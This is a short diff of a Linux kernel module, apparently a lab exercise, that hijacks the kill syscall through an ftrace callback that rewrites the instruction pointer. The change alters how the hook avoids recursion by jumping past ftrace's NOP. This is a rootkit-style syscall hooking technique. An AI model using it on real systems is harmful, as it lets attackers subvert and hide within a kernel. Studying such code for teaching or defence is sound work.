@@ -17,7 +17,7 @@ static void notrace redirect(unsigned long ip, unsigned long parent_ip, struct f
 {
 	struct pt_regs *regs = ftrace_get_regs(fregs);
 
-	if (regs && !within_module(parent_ip, THIS_MODULE))
+	if (regs)
 		regs->ip = (unsigned long)passed_on;
 }
 
@@ -29,12 +29,13 @@ static struct ftrace_ops ops = {
 static int lab_attack(void)
 {
 	u8 *function = (u8 *)lab_symbol("__x64_sys_kill");
-	u8 old[5];
+	u8 old[MCOUNT_INSN_SIZE];
 	int error;
 
 	if (!function)
 		return -ENOENT;
-	original = (void *)function;
+	/* Behind ftrace's NOP, so that passing on does not come back here. */
+	original = (void *)(function + MCOUNT_INSN_SIZE);
 	memcpy(old, function, sizeof(old));
 	error = ftrace_set_filter_ip(&ops, (unsigned long)function, 0, 0);
 	if (!error)
